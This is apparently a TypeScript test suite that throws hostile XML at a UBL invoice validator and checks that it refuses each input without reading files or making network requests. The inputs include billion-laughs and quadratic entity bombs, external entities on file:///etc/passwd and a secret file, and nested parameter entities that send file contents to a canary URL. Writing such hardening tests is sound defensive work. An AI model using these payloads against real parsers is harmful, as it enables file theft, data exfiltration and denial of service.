import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe } from 'node:test';
import { SbdhError, unwrapSbdh } from '../../src/formats/ubl/sbdh.js';
import { validateUbl, type UblVerdict } from '../../src/formats/ubl/validate-ubl.js';
import { startHostileBillit, type HostileBillit } from '../support/hostile-billit.js';
import { generate } from '../formats/ubl/ubl-fixtures.js';
import { hostileCase, reportCaseCount, timed } from './hostile-support.js';

/**
 * The UBL gate against files built to hurt an XML parser: entity expansion, external entities and
 * DTDs, XInclude, depth, size, encodings, namespace and envelope tricks. validateUbl must answer every
 * one quickly with a verdict (invalid with a clear finding, or valid where the XML is legitimately
 * fine), never throw, and never read a file or the network: a secret file and a canary HTTP server
 * are referenced by the attacks and must never show up or be asked.
 */

reportCaseCount();

const UBL_INVOICE = 'urn:oasis:names:specification:ubl:schema:xsd:Invoice-2';
const SBDH = 'http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader';
/** Per case; the largest inputs (20 MB) take well under a second on a laptop. */
const CASE_MS = 5_000;

const SECRET = `HOSTILE-SECRET-${randomBytes(8).toString('hex')}`;
let secretDir: string;
let secretUrl: string;
let canary: HostileBillit;
let canaryUrl: string;

before(async () => {
  secretDir = mkdtempSync(path.join(tmpdir(), 'billsync-hostile-secret-'));
  const secretFile = path.join(secretDir, 'secret.txt');
  writeFileSync(secretFile, `${SECRET}\n`);
  secretUrl = pathToFileURL(secretFile).href;
  canary = await startHostileBillit();
  canary.answer('*', { headers: { 'Content-Type': 'text/plain' }, body: `<!ENTITY canary "${SECRET}">${SECRET}` });
  canaryUrl = `${canary.baseUrl}/evil`;
});
after(async () => {
  await canary.close();
  rmSync(secretDir, { recursive: true, force: true });
});

// The generated documents are valid Peppol BIS 3 invoices (the one without a PDF only warns about that).
let plainCache: string | null = null;
let pdfCache: string | null = null;
const plain = (): string => (plainCache ??= generate('hostile', 0));
const withPdf = (): string => (pdfCache ??= generate('hostile', 0, { pdf: true }));
const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');
const body = (xml: string): string => xml.replace(/^<\?xml[^>]*\?>\s*/, '');
/** A Note element inserted before the IssueDate: text the gate must look at. */
const withNote = (content: string, xml = plain()): string => xml.replace('<cbc:IssueDate>', `<cbc:Note>${content}</cbc:Note><cbc:IssueDate>`);
const idOf = (xml: string): string => /<cbc:ID>([^<]*)<\/cbc:ID>/.exec(xml)![1]!;
const sbdh = (payload: string, header = '<sh:HeaderVersion>1.0</sh:HeaderVersion>'): string =>
  `<?xml version="1.0" encoding="UTF-8"?><sh:StandardBusinessDocument xmlns:sh="${SBDH}"><sh:StandardBusinessDocumentHeader>${header}</sh:StandardBusinessDocumentHeader>${payload}</sh:StandardBusinessDocument>`;
const doctype = (subset: string, xml = plain()): string => `<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice [${subset}]>\n${body(xml)}`;
const useEntity = (name: string, xml = plain()): string => withNote(`&${name};`, xml);
const replaceBinary = (content: string): string =>
  withPdf().replace(/(<cbc:EmbeddedDocumentBinaryObject[^>]*>)[^<]*/, (_whole, open: string) => open + content);

interface Expect {
  valid: boolean;
  /** A finding with this code must be among the errors (or warnings, for a valid verdict). */
  code?: string;
  message?: RegExp;
  /** Extra checks on the verdict. */
  also?: (verdict: UblVerdict) => void;
}

function check(input: () => Buffer, expected: Expect): void {
  const bytes = input();
  const canaryBefore = canary.requests.length;
  let verdict: UblVerdict;
  let took: number;
  try {
    ({ value: verdict, ms: took } = timed(() => validateUbl(bytes)));
  } catch (error) {
    assert.fail(`validateUbl threw instead of giving a verdict: ${(error as Error).stack ?? String(error)}`);
  }
  assert.ok(took < CASE_MS, `validateUbl took ${Math.round(took)} ms`);
  const findings = [...verdict.errors, ...verdict.warnings];
  const shown = findings.map((f) => `${f.severity} ${f.code}: ${f.message.slice(0, 200)}`).join('\n');
  assert.equal(verdict.valid, expected.valid, `verdict valid=${verdict.valid}, expected ${expected.valid}:\n${shown}`);
  if (!expected.valid) assert.ok(verdict.errors.length > 0);
  if (expected.code !== undefined) {
    const pool = expected.valid ? findings : verdict.errors;
    const hit = pool.find((f) => f.code === expected.code);
    assert.ok(hit, `a ${expected.code} finding; got:\n${shown}`);
    if (expected.message) assert.match(hit.message, expected.message);
  }
  for (const finding of findings) {
    assert.ok(finding.message.length > 0 && finding.message.length < 2_000, `a readable message, got ${finding.message.length} characters`);
  }
  const everything = JSON.stringify(verdict);
  assert.ok(!everything.includes(SECRET), 'the secret file or the canary answer reached the verdict');
  assert.doesNotMatch(everything, /root:[^:]*:0:0:/, '/etc/passwd reached the verdict');
  assert.equal(canary.requests.length, canaryBefore, 'validateUbl made a network request');
  // What the engine does next with a valid document: unwrap its envelope. That too must not throw blindly.
  if (verdict.valid) {
    try {
      unwrapSbdh(bytes);
    } catch (error) {
      assert.ok(error instanceof SbdhError, `unwrapSbdh threw ${(error as Error).name}: ${(error as Error).message}`);
    }
  }
  expected.also?.(verdict);
}

function ublCase(name: string, input: () => Buffer, expected: Expect): void {
  hostileCase(name, () => check(input, expected), { timeout: 20_000 });
}

const UNSAFE: Expect = { valid: false, code: 'UBL-XML-UNSAFE', message: /refused without parsing/ };
const MALFORMED = (message?: RegExp): Expect => ({ valid: false, code: 'UBL-XML-MALFORMED', ...(message ? { message } : {}) });
const ENCODING = (message: RegExp): Expect => ({ valid: false, code: 'UBL-XML-ENCODING', message });

describe('entities, DTDs and external references', () => {
  ublCase('billion laughs (ten levels of ten entities) is refused before parsing', () => {
    const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('');
    return utf8(doctype(`<!ENTITY lol "lol">${levels}`, withNote('&lol9;')));
  }, UNSAFE);

  ublCase('quadratic blow-up (one 100 KB entity used 20,000 times) is refused before parsing', () =>
    utf8(doctype(`<!ENTITY a "${'a'.repeat(100_000)}">`, withNote('&a;'.repeat(20_000)))), UNSAFE);

  ublCase('an external entity on file:///etc/passwd is refused and nothing of the file shows', () =>
    utf8(doctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">', useEntity('xxe'))), UNSAFE);

  ublCase('an external entity on a local secret file is refused and the secret never shows', () =>
    utf8(doctype(`<!ENTITY xxe SYSTEM "${secretUrl}">`, useEntity('xxe'))), UNSAFE);

  ublCase('an external entity over http is refused without a request', () =>
    utf8(doctype(`<!ENTITY xxe SYSTEM "${canaryUrl}">`, useEntity('xxe'))), UNSAFE);

  ublCase('a parameter entity loading an external DTD is refused without a request', () =>
    utf8(doctype(`<!ENTITY % remote SYSTEM "${canaryUrl}.dtd"> %remote;`)), UNSAFE);

  ublCase('nested parameter entities building an entity declaration are refused', () =>
    utf8(doctype(`<!ENTITY % file SYSTEM "${secretUrl}"><!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '${canaryUrl}?%file;'>"> %wrap; %send;`)), UNSAFE);

  ublCase('an external DTD without internal subset is refused without a request', () =>
    utf8(`<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Invoice SYSTEM "${canaryUrl}.dtd">\n${body(plain())}`), UNSAFE);

  ublCase('a PUBLIC DTD reference is refused without a request', () =>
    utf8(`<?xml version="1.0"?><!DOCTYPE Invoice PUBLIC "-//EVIL//DTD//EN" "${canaryUrl}.dtd">${body(plain())}`), UNSAFE);

  ublCase('a DOCTYPE whose internal subset only declares an element is still refused', () =>
    utf8(doctype('<!ELEMENT Invoice ANY>')), UNSAFE);

  ublCase('a lower-case <!doctype with an <!entity is refused', () =>
    utf8(`<!doctype Invoice [<!entity a "b">]>${body(useEntity('a'))}`), UNSAFE);

  ublCase('an entity declaration placed after 10 MB of comment is still found', () =>
    utf8(`<!--${' '.repeat(10 * 1024 * 1024)}-->${doctype('<!ENTITY a "b">', useEntity('a'))}`), UNSAFE);

  ublCase('a billion-laughs DOCTYPE inside an SBDH envelope is refused', () =>
    utf8(sbdh(body(useEntity('lol3'))).replace('<sh:StandardBusinessDocument ', `<!DOCTYPE x [<!ENTITY lol "lol"><!ENTITY lol2 "${'&lol;'.repeat(10)}"><!ENTITY lol3 "${'&lol2;'.repeat(10)}">]><sh:StandardBusinessDocument `)), UNSAFE);

  ublCase('a billion-laughs document encoded as UTF-16 is refused as UTF-16', () =>
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "${secretUrl}">]><Invoice xmlns="${UBL_INVOICE}">&a;</Invoice>`, 'utf16le')]),
  ENCODING(/UTF-16/));

  ublCase('an entity reference without any declaration is malformed', () => utf8(useEntity('xxe')), MALFORMED(/entity/));

  ublCase('the text of a DOCTYPE inside a CDATA section is text (XML 1.0 §2.7): valid, and nothing is read', () =>
    utf8(withNote(`<![CDATA[<!DOCTYPE x [<!ENTITY a SYSTEM "${secretUrl}">]>]]>`)), { valid: true });

  ublCase('a DOCTYPE after a comment or a processing instruction that mention declarations is still refused', () =>
    utf8(withNote('x').replace('<cbc:Note>x</cbc:Note>', `<!-- <![CDATA[ --><?pi <!-- ?><!DOCTYPE x [<!ENTITY a SYSTEM "${secretUrl}">]><cbc:Note>x</cbc:Note>`)), UNSAFE);

  ublCase('XInclude of a local secret file is not processed: the verdict does not depend on the file', () =>
    utf8(withNote(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"><xi:fallback>none</xi:fallback></xi:include>`)),
  { valid: true, also: (verdict) => {
    const control = validateUbl(utf8(withNote(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///nonexistent/${SECRET.length}" parse="text"><xi:fallback>none</xi:fallback></xi:include>`)));
    assert.deepEqual(verdict, control);
  } });

  ublCase('XInclude of /etc/passwd as an empty element is reported as an empty element, nothing read', () =>
    utf8(withNote('x').replace('<cbc:Note>x</cbc:Note>', '<cbc:Note>x</cbc:Note><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')),
  { valid: false, code: 'PEPPOL-EN16931-R008', message: /include is empty/ });

  ublCase('XInclude over http is not fetched', () =>
    utf8(withNote(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${canaryUrl}.xml"><xi:fallback>none</xi:fallback></xi:include>`)), { valid: true });

  ublCase('an xml-stylesheet processing instruction pointing to http is legal XML and is not fetched', () =>
    utf8(plain().replace('?>', `?><?xml-stylesheet type="text/xsl" href="${canaryUrl}.xsl"?>`)), { valid: true });

  ublCase('xsi:schemaLocation pointing to http is not fetched', () =>
    utf8(plain().replace(`xmlns="${UBL_INVOICE}"`, `xmlns="${UBL_INVOICE}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${UBL_INVOICE} ${canaryUrl}.xsd"`)), { valid: true });
});

describe('processing instructions, CDATA and comments', () => {
  ublCase('a processing instruction before the XML declaration is malformed', () => utf8(`<?evil x?>${plain()}`), MALFORMED(/xml declaration/));
  ublCase('a second XML declaration is malformed', () => utf8(plain().replace('?>', '?><?xml version="1.0"?>')), MALFORMED(/xml declaration/));
  ublCase('a processing instruction holding "<!DOCTYPE" text is accepted as the harmless PI it is', () =>
    utf8(plain().replace('?>', '?><?note <!-- not a comment --> ?>')), { valid: true });
  ublCase('an unterminated processing instruction is malformed', () => utf8(withNote('<?evil never ends')), MALFORMED());
  ublCase('CDATA holding closing and opening tags does not change the invoice number', () =>
    utf8(withNote('<![CDATA[</cbc:Note><cbc:ID>EVIL-0001</cbc:ID><cbc:Note>]]>')),
  { valid: true, also: (verdict) => assert.equal(verdict.summary?.id, idOf(plain())) });
  ublCase('an invoice number wrapped in CDATA is read as the same number', () =>
    utf8(plain().replace(/<cbc:ID>([^<]*)<\/cbc:ID>/, '<cbc:ID><![CDATA[$1]]></cbc:ID>')),
  { valid: true, also: (verdict) => assert.equal(verdict.summary?.id, idOf(plain())) });
  ublCase('"]]>" in text outside CDATA is malformed', () => utf8(withNote('a ]]> b')), MALFORMED(/\]\]>/));
  ublCase('"]]>" inside an attribute value is legal', () => utf8(plain().replace('<cbc:IssueDate>', '<cbc:Note languageID="a]]>b">x</cbc:Note><cbc:IssueDate>')), { valid: true });
  ublCase('an unterminated CDATA section is malformed', () => utf8(withNote('<![CDATA[ never closed')), MALFORMED(/CDATA/));
  ublCase('50,000 unterminated CDATA openers are rejected in linear time', () => utf8(withNote('<![CDATA['.repeat(50_000))), MALFORMED());
  ublCase('50,000 unterminated comment openers are rejected in linear time', () => utf8(withNote('<!--'.repeat(50_000))), MALFORMED());
  ublCase('a comment containing "--" is malformed', () => utf8(withNote('<!-- a -- b -->')), MALFORMED(/comment/));
});

describe('depth, size and attribute bombs', () => {
  ublCase('50,000 nested elements inside the invoice do not overflow the stack', () =>
    utf8(withNote('x').replace('<cbc:Note>x</cbc:Note>', `<cbc:Note>x</cbc:Note>${'<x>'.repeat(50_000)}y${'</x>'.repeat(50_000)}`)),
  { valid: true });

  ublCase('50,000 nested empty elements are reported as empty, not crashed on', () =>
    utf8(`<?xml version="1.0"?><Invoice xmlns="${UBL_INVOICE}">${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</Invoice>`),
  { valid: false, code: 'BR-02' });

  ublCase('50,000 nested elements inside an SBDH header do not overflow the stack', () =>
    utf8(sbdh(body(plain()), `${'<sh:X>'.repeat(50_000)}${'</sh:X>'.repeat(50_000)}`)), { valid: true });

  ublCase('100,000 unclosed elements are malformed', () => utf8(`<?xml version="1.0"?><Invoice xmlns="${UBL_INVOICE}">${'<a>'.repeat(100_000)}`), MALFORMED());

  ublCase('a 10 MB comment inside a valid invoice is still a valid invoice', () =>
    utf8(plain().replace('<cbc:IssueDate>', `<!-- old attachment: ${'QUJD'.repeat(2_621_440)} --><cbc:IssueDate>`)), { valid: true });

  ublCase('20 MB of whitespace between the elements of a valid invoice is still a valid invoice', () =>
    utf8(plain().replace('<cbc:IssueDate>', `${' \n\t'.repeat(7 * 1024 * 1024)}<cbc:IssueDate>`)), { valid: true });

  ublCase('20 MB of "<" is malformed', () => utf8(`<?xml version="1.0"?><Invoice xmlns="${UBL_INVOICE}">${'<'.repeat(20 * 1024 * 1024)}</Invoice>`), MALFORMED());

  ublCase('200,000 attributes on the root give the same verdict as none', () =>
    utf8(plain().replace(`xmlns="${UBL_INVOICE}"`, `xmlns="${UBL_INVOICE}" ${Array.from({ length: 200_000 }, (_, i) => `a${i}="v"`).join(' ')}`)),
  { valid: true, also: (verdict) => assert.deepEqual(verdict, validateUbl(utf8(plain()))) });

  ublCase('a 10 MB attribute value is read in bounded time', () =>
    utf8(plain().replace('<cbc:IssueDate>', `<cbc:Note languageID="${'x'.repeat(10 * 1024 * 1024)}">n</cbc:Note><cbc:IssueDate>`)), { valid: true });

  ublCase('100,000 namespace declarations on the root are read in bounded time', () =>
    utf8(plain().replace(`xmlns="${UBL_INVOICE}"`, `xmlns="${UBL_INVOICE}" ${Array.from({ length: 100_000 }, (_, i) => `xmlns:n${i}="urn:n:${i}"`).join(' ')}`)), { valid: true });

  ublCase('a duplicated attribute is malformed', () => utf8(plain().replace('<cbc:IssueDate>', '<cbc:IssueDate a="1" a="2">')), MALFORMED(/redefined/));

  ublCase('an attribute without quotes is malformed', () => utf8(plain().replace('<cbc:IssueDate>', '<cbc:IssueDate a=1>')), MALFORMED());
});

describe('embedded attachments', () => {
  ublCase('a 15 MB embedded PDF (20 MB of base64) is checked in bounded time and accepted', () =>
    utf8(replaceBinary(Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(15 * 1024 * 1024, 0x20), Buffer.from('\n%%EOF\n')]).toString('base64'))),
  { valid: true, also: (verdict) => assert.equal(verdict.hasPdf, true) });

  ublCase('20 MB of base64 with one bad character at the end names the attachment and the position', () =>
    utf8(replaceBinary(`${Buffer.alloc(15 * 1024 * 1024, 7).toString('base64').slice(0, -4)}AA!=`)),
  { valid: false, code: 'BILLSYNC-ATTACHMENT-BASE64', message: /\.pdf" is not valid base64: invalid character "!" at position \d+/ });

  ublCase('base64 declared application/pdf that decodes to something else is refused', () =>
    utf8(replaceBinary(Buffer.from('MZ\x90\x00 this is an executable').toString('base64'))),
  { valid: false, code: 'BILLSYNC-PDF-INVALID', message: /not "%PDF-"/ });

  ublCase('base64 cut to a length that is not a multiple of 4 is refused', () =>
    utf8(replaceBinary(Buffer.from('%PDF-1.4 truncated').toString('base64').slice(0, -1))),
  { valid: false, code: 'BILLSYNC-ATTACHMENT-BASE64' });

  // Read through the parser, the entity becomes "L" and the base64 "%PDF-1.4\n": a PDF header with no
  // end (a damaged visual, warned of). Extracted blindly it would have been invalid base64.
  ublCase('an attachment whose base64 is entity-escaped text is read from the DOM, not extracted blindly', () =>
    utf8(replaceBinary(`${'JVBERi0x'}&#x4C;${'jQK'}`)), { valid: true, code: 'BILLSYNC-PDF-DAMAGED' });
});

describe('encodings', () => {
  const noteBytes = (inner: Buffer): Buffer => {
    const [head, tail] = withNote('@@').split('@@') as [string, string];
    return Buffer.concat([utf8(head), inner, utf8(tail)]);
  };
  ublCase('invalid UTF-8 bytes in text are refused, not turned into U+FFFD', () => noteBytes(Buffer.from([0x41, 0xc3, 0x28, 0xff, 0x42])), ENCODING(/not valid UTF-8/));
  ublCase('an overlong UTF-8 encoding of "/" is refused', () => noteBytes(Buffer.from([0xc0, 0xaf])), ENCODING(/not valid UTF-8/));
  ublCase('a UTF-8 encoded surrogate is refused', () => noteBytes(Buffer.from([0xed, 0xa0, 0x80])), ENCODING(/not valid UTF-8/));
  ublCase('a UTF-8 sequence cut at the end of the file is refused', () => Buffer.concat([utf8(plain()), Buffer.from([0xe2, 0x82])]), ENCODING(/not valid UTF-8/));
  ublCase('invalid UTF-8 inside a tag name is refused as an encoding problem', () => {
    const xml = plain();
    const at = xml.indexOf('<cbc:ID>') + 4;
    return Buffer.concat([utf8(xml.slice(0, at)), Buffer.from([0xff]), utf8(xml.slice(at))]);
  }, ENCODING(/not valid UTF-8/));
  ublCase('UTF-16 LE with a byte order mark is refused as UTF-16', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(plain().replace('UTF-8', 'UTF-16'), 'utf16le')]), ENCODING(/UTF-16/));
  ublCase('UTF-16 BE with a byte order mark is refused as UTF-16', () => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(plain().replace('UTF-8', 'UTF-16'), 'utf16le').swap16()]), ENCODING(/UTF-16/));
  ublCase('UTF-16 without a byte order mark is refused as UTF-16', () => Buffer.from(plain().replace('UTF-8', 'UTF-16'), 'utf16le'), ENCODING(/UTF-16/));
  ublCase('a UTF-8 byte order mark is fine', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(plain())]), { valid: true });
  ublCase('a literal U+FFFD (valid UTF-8) is tolerated', () => utf8(withNote('caf\uFFFD')), { valid: true });
  ublCase('a Latin-1 declared file is read as Latin-1', () =>
    Buffer.from(withNote('Société Générale').replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), 'latin1'), { valid: true });
  ublCase('a NUL byte in text is malformed', () => utf8(withNote('a\u0000b')), MALFORMED(/U\+0000/));
  ublCase('a character reference to NUL is malformed', () => utf8(withNote('a&#0;b')), MALFORMED(/&#0;/));
  ublCase('a character reference to a lone surrogate is malformed', () => utf8(withNote('&#xD800;')), MALFORMED(/&#xD800;/));
  ublCase('a character reference beyond U+10FFFF is malformed', () => utf8(withNote('&#x110000;')), MALFORMED(/&#x110000;/));
  ublCase('a 30-digit character reference is malformed', () => utf8(withNote(`&#${'9'.repeat(30)};`)), MALFORMED(/character reference/));
  ublCase('a character reference to a form feed is malformed', () => utf8(withNote('&#12;')), MALFORMED(/&#12;/));
  ublCase('legal character references are fine', () => utf8(withNote('&#233;&#x20AC;&#x1F600;&#10;&amp;&lt;')), { valid: true });
});

describe('namespaces and envelopes', () => {
  ublCase('an Invoice in a look-alike namespace is refused, naming both namespaces', () =>
    utf8(plain().replace(`xmlns="${UBL_INVOICE}"`, 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2 "')),
  { valid: false, code: 'UBL-ROOT', message: /expected Invoice \(urn:oasis/ });
  ublCase('an Invoice in no namespace is refused', () => utf8(plain().replace(` xmlns="${UBL_INVOICE}"`, '')), { valid: false, code: 'UBL-ROOT' });
  ublCase('an Invoice in the CreditNote namespace is refused', () =>
    utf8(plain().replace(`xmlns="${UBL_INVOICE}"`, 'xmlns="urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2"')), { valid: false, code: 'UBL-ROOT' });
  ublCase('the UBL namespace under an unusual prefix is the same document', () => {
    const xml = plain().replace(`xmlns="${UBL_INVOICE}"`, `xmlns:inv="${UBL_INVOICE}"`).replace('<Invoice ', '<inv:Invoice ').replace('</Invoice>', '</inv:Invoice>');
    return utf8(xml);
  }, { valid: true, also: (verdict) => assert.equal(verdict.documentType, 'Invoice') });
  ublCase('cbc bound to a spoofed namespace leaves the invoice without its mandatory terms', () =>
    utf8(plain().replace('xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"', 'xmlns:cbc="urn:evil:CommonBasicComponents-2"')),
  { valid: false, code: 'BR-02' });
  ublCase('an invoice number re-bound to a foreign namespace on the element itself is not taken for the number', () =>
    utf8(plain().replace(/<cbc:ID>([^<]*)<\/cbc:ID>/, '<cbc:ID xmlns:cbc="urn:evil">$1</cbc:ID>')), { valid: false, code: 'BR-02' });
  ublCase('an SBDH envelope wrapping a UBL Order (not an invoice) is refused, naming the Order', () =>
    utf8(sbdh('<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID></Order>')), { valid: false, code: 'UBL-ROOT', message: /Order-2\}Order/ });
  ublCase('an SBDH envelope wrapping an HTML page is refused', () =>
    utf8(sbdh('<html xmlns="http://www.w3.org/1999/xhtml"><body>hi</body></html>')), { valid: false, code: 'UBL-ROOT', message: /html/ });
  ublCase('an SBDH envelope with no document is refused', () => utf8(sbdh('')), { valid: false, code: 'UBL-SBDH', message: /holds 0 documents/ });
  ublCase('an SBDH envelope with two invoices is refused', () => utf8(sbdh(body(plain()) + body(plain()))), { valid: false, code: 'UBL-SBDH', message: /holds 2 documents/ });
  ublCase('an SBDH envelope nested in an SBDH envelope is refused, naming the inner envelope', () =>
    utf8(sbdh(body(sbdh(body(plain()))))), { valid: false, code: 'UBL-ROOT', message: /StandardBusinessDocument/ });
  ublCase('an SBDH envelope holding text besides the invoice is still one document', () =>
    utf8(sbdh(`just text ${body(plain())} more text`)), { valid: true, also: (verdict) => assert.equal(verdict.summary?.id, idOf(plain())) });
  ublCase('an SBDH look-alike in another namespace is not opened', () =>
    utf8(sbdh(body(plain())).replaceAll(SBDH, 'http://www.unece.org/cefact/namespaces/StandardBusinessDocumentHeader/evil')), { valid: false, code: 'UBL-ROOT' });
});

describe('not XML at all', () => {
  ublCase('an empty file is malformed', () => Buffer.alloc(0), MALFORMED());
  ublCase('a lone byte order mark is malformed', () => Buffer.from([0xef, 0xbb, 0xbf]), MALFORMED());
  ublCase('a PDF served instead of the UBL is refused', () => Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n', 'latin1'), { valid: false });
  ublCase('a JSON error body served instead of the UBL is malformed', () => utf8('{"errors":[{"Code":"NotFound"}]}'), MALFORMED());
  ublCase('8 MB of random bytes are refused quickly', () => randomBytes(8 * 1024 * 1024), { valid: false });
  ublCase('the XML declaration alone is malformed', () => utf8('<?xml version="1.0" encoding="UTF-8"?>'), MALFORMED());
});
